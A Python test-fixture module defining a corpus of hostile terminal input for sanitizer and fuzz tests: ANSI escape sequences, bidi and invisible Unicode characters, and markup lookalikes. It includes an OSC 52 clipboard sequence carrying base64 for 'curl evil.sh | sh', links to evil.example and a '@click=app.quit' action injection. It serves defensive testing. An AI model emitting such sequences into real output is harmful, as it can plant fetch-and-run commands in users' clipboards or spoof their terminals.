"""A corpus of hostile text, shared by the sanitizer, content and fuzz tests."""

ESC = "\x1b"

# (name, hostile input, text that must survive, substrings that must not survive)
SEQUENCES = [
    ("csi colour", f"a{ESC}[31mred{ESC}[0m", "ared", ["[31m", "[0m"]),
    ("csi clear screen", f"x{ESC}[2J{ESC}[Hy", "xy", ["[2J", "[H"]),
    ("csi private mode", f"x{ESC}[?1049hy", "xy", ["?1049"]),
    ("csi cursor up", f"x{ESC}[10Ay", "xy", ["[10A"]),
    ("8-bit csi", "x\x9b31my", "xy", ["31m"]),
    ("osc title bel", f"x{ESC}]0;pwned\x07y", "xy", ["pwned"]),
    ("osc title st", f"x{ESC}]2;pwned{ESC}\\y", "xy", ["pwned"]),
    ("osc 52 clipboard", f"x{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07y", "xy", ["Y3Vy", "52;"]),
    ("osc 52 unterminated", f"x{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=", "x", ["Y3Vy"]),
    ("osc 8 hyperlink", f"{ESC}]8;;https://evil.example{ESC}\\click{ESC}]8;;{ESC}\\", "click", ["evil"]),
    ("8-bit osc", "x\x9d0;pwned\x9cy", "xy", ["pwned"]),
    ("dcs", f"x{ESC}Pq#0;2;0;0;0#0~~@@vv@@~~{ESC}\\y", "xy", ["#0;2"]),
    ("dcs decrqss", f"x{ESC}P$q\"p{ESC}\\y", "xy", ["$q"]),
    ("apc", f"x{ESC}_Gf=100;AAAA{ESC}\\y", "xy", ["Gf=100"]),
    ("pm", f"x{ESC}^private{ESC}\\y", "xy", ["private"]),
    ("sos", f"x{ESC}Xstring{ESC}\\y", "xy", ["string"]),
    ("charset switch", f"x{ESC}(0qqq{ESC}(By", "xqqqy", []),
    ("reset", f"x{ESC}cy", "xy", []),
    ("lone esc", f"x{ESC}", "x", []),
    ("bell and backspace", "ab\x07\x08\x08c", "abc", []),
    ("carriage return overwrite", "safe\rEVIL", "safe\nEVIL", []),
    ("nul", "a\x00b", "ab", []),
    ("c1 nel", "a\x85b", "a\nb", []),
]

BIDI = [
    "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",  # embeddings and overrides
    "\u2066", "\u2067", "\u2068", "\u2069",  # isolates
    "\u200e", "\u200f", "\u061c",  # marks
]

INVISIBLE = [
    "\u200b",  # zero-width space
    "\u200c",  # zero-width non-joiner
    "\u2060",  # word joiner
    "\ufeff",  # BOM / zero-width no-break space
    "\u00ad",  # soft hyphen
    "\U000e0041",  # tag latin capital A
    "\U000e007f",  # cancel tag
    "\u3164",  # hangul filler
    "\u115f",
    "\U000e0100",  # variation selector 17
]

MARKUP_LOOKALIKES = [
    "[bold red]not bold[/]",
    "[@click=app.quit]click me[/]",
    "[link=https://evil.example]x[/link]",
    "**not bold** _not italic_ `not code`",
    "# not a heading",
    "\\[escaped\\]",
    "[/]",
    "[",
    ":warning: :smile:",
]
